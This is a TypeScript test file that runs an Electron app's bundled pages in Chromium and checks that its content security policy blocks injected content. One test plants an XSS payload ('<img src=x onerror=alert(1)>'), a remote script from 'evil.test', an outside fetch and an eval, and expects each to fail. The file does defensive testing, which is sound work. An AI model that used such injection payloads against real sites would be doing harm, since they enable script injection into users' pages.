import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { type Browser, chromium, type Page } from 'playwright-core';
import { build } from 'vite';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type AppFiles, listAppFiles } from '../../../main/app-files.ts';
import { answerAppRequest } from '../../../main/electron/app-response.ts';
import { policyOf } from '../../../main/electron/content-security-policy.ts';
import { findChromium } from '../../../main/loopback/find-chromium.ts';

/**
 * The built pages in a real Chromium, served by the very function that answers `app://`, under the very headers. The
 * scheme is https here, since only Electron knows ours; to a policy the two are alike.
 */
const house = fileURLToPath(new URL('../../..', import.meta.url));
const outDir = join(house, 'node_modules/.cache/hookline-test/renderer');

/** Two pages are bundled and a browser is started. */
const patienceMs = 60_000;

let browser: Browser;
let files: AppFiles = new Map();

beforeAll(async () => {
  await build({ configFile: join(house, 'renderer/vite.config.ts'), logLevel: 'silent', build: { outDir } });
  files = listAppFiles([{ at: '/', folder: outDir }]);
  browser = await chromium.launch({
    executablePath: findChromium() ?? '',
    args: process.getuid?.() === 0 ? ['--no-sandbox'] : [],
  });
}, patienceMs);
afterAll(() => browser?.close());

/** Opens a page of ours; answers it with every breach of the policy that it reported. */
async function open(address: string): Promise<{ page: Page; breaches: () => Promise<string[]> }> {
  const page = await browser.newPage();
  await page.route('https://console/**', async (route) => {
    const request = { method: route.request().method(), url: route.request().url().replace('https:', 'app:') };
    const answer = await answerAppRequest(files, request, (url) => policyOf(url, []));
    await route.fulfill({
      status: answer.status,
      headers: Object.fromEntries(answer.headers),
      body: Buffer.from(await answer.arrayBuffer()),
    });
  });
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { seen });
    addEventListener('securitypolicyviolation', (event) => {
      seen.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  await page.goto(address);
  return { page, breaches: () => page.evaluate(() => (window as unknown as { seen: string[] }).seen) };
}

test.each(['https://console/desk/index.html', 'https://console/desk/index.html?bar'])(
  '%s draws itself and breaks no rule of its own',
  async (address) => {
    const { page, breaches } = await open(address);
    await page.waitForSelector('main');
    expect(await breaches()).toEqual([]);
    await page.close();
  },
  patienceMs,
);

test(
  'the phone has no desk inside it and breaks no rule of its own',
  async () => {
    const { page, breaches } = await open('https://console/phone/index.html?shell=electron');
    expect([await breaches(), page.frames().length]).toEqual([[], 1]);
    await page.close();
  },
  patienceMs,
);

test(
  'whatever gets into a page does nothing there',
  async () => {
    const { page, breaches } = await open('https://console/desk/index.html');
    await page.waitForSelector('main');
    const outcome = await page.evaluate(async () => {
      const attempt = (run: () => unknown): string => {
        try {
          run();
          return 'done';
        } catch (error) {
          return error instanceof Error ? error.name : 'thrown';
        }
      };
      const script = document.createElement('script');
      const image = document.createElement('img');
      image.src = 'https://evil.test/x.png';
      document.body.append(image);
      const fetched = await fetch('https://evil.test/').then(
        () => 'fetched',
        () => 'blocked',
      );
      // In a task of the page's own: what DevTools evaluates is let through.
      const evaluated = await new Promise<string>((resolve) => {
        setTimeout(() => resolve(attempt(() => Function('return 1')())), 0);
      });
      return {
        markup: attempt(() => {
          document.body.innerHTML = '<img src=x onerror=alert(1)>';
        }),
        script: attempt(() => {
          script.src = 'https://evil.test/x.js';
        }),
        evaluated,
        fetched,
      };
    });
    expect(outcome).toEqual({ markup: 'TypeError', script: 'TypeError', evaluated: 'EvalError', fetched: 'blocked' });
    const said = (await breaches()).join('\n');
    for (const directive of ['img-src', 'connect-src', 'require-trusted-types-for']) expect(said).toContain(directive);
    await page.close();
  },
  patienceMs,
);
